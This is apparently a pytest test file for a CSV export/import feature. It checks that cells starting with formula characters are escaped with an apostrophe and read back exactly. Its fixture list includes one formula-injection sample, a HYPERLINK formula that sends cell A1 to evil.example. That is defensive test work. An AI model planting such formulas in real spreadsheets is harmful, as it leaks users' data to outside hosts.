"""export-csv writes cells a spreadsheet could run as formulas with a leading apostrophe, and
import-csv removes exactly that apostrophe: the file opens safely and reads back exactly."""

from __future__ import annotations

import csv
import io

import pytest

from maturity.data import assessments
from maturity.domain.csv_format import HEADER
from maturity.domain.spreadsheet_cells import FORMULA_STARTS
from maturity.extensions import db
from maturity.models import AssessmentStatus, Rating
from tests import factories

EVIDENCE = [
    "- the board sees the measures quarterly\n- targets are published",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+44 20 7946 0000 is the performance team's number",
    "@SUM(1+1)",
    "'=already quoted once",
    "Plain evidence, with a comma",
]


@pytest.fixture
def runner(app):
    return app.test_cli_runner()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _evidence(organisation) -> list[str]:  # type: ignore[no-untyped-def]
    db.session.expire_all()
    return [
        rating.evidence
        for assessment in assessments.for_organisation(organisation=organisation)
        for rating in assessment.ordered_ratings
    ]


def test_export_writes_formula_cells_with_an_apostrophe_and_import_reads_them_back_exactly(
    runner, tmp_path
):
    body = factories.organisation(name="=Body (Formula) Ltd")
    for number, evidence in enumerate(EVIDENCE):
        factories.assessment(
            of=body, period=str(2010 + number), evidence=evidence, status=AssessmentStatus.DRAFT
        )
    before = _evidence(body)
    out = tmp_path / "ratings.csv"

    assert runner.invoke(args=["export-csv", body.slug, "--out", str(out)]).exit_code == 0

    exported = out.read_text(encoding="utf-8")
    rows = _cells(exported)
    assert ",".join(rows[0]) == HEADER
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert {row[0] for row in rows[1:]} == {"'=Body (Formula) Ltd"}
    assert {row[5] for row in rows[1:]} == {
        "'- the board sees the measures quarterly\n- targets are published",
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "'+44 20 7946 0000 is the performance team's number",
        "'@SUM(1+1)",
        "''=already quoted once",
        "Plain evidence, with a comma",
    }

    # Blank the evidence, then import the file: every rating gets its evidence back exactly.
    for rating in db.session.query(Rating).all():
        rating.evidence = ""
    db.session.commit()
    result = runner.invoke(args=["import-csv", str(out)])
    assert result.exit_code == 0, result.output
    assert _evidence(body) == before


def test_re_importing_an_export_of_approved_history_with_formula_cells_changes_nothing(
    runner, tmp_path
):
    body = factories.organisation(name="Home Office")
    factories.assessment(
        of=body, period="2016", status=AssessmentStatus.APPROVED, evidence="- minutes\n- papers"
    )
    path = tmp_path / "ratings.csv"
    assert runner.invoke(args=["export-csv", "home-office", "--out", str(path)]).exit_code == 0
    assert "'- minutes" in path.read_text(encoding="utf-8")

    # An approved assessment can only be "imported" when the file holds exactly what it has.
    result = runner.invoke(args=["import-csv", str(path)])

    assert result.exit_code == 0, result.output
    assert "left 3 ratings of approved assessments as they were" in result.stdout


def test_a_crafted_import_cell_is_stored_as_the_text_after_one_apostrophe(runner, tmp_path):
    body = factories.organisation(name="Home Office")
    path = tmp_path / "crafted.csv"
    path.write_text(
        "\n".join(
            (
                HEADER,
                "Home Office,2018,developing-a-framework,1,,'=1+1",
                "Home Office,2018,reporting-performance-information,1,,''=x",
                "Home Office,2018,using-the-framework,1,,'plain",
            )
        )
        + "\n",
        encoding="utf-8",
    )

    result = runner.invoke(args=["import-csv", str(path)])

    assert result.exit_code == 0, result.output
    assert _evidence(body) == ["=1+1", "'=x", "'plain"]
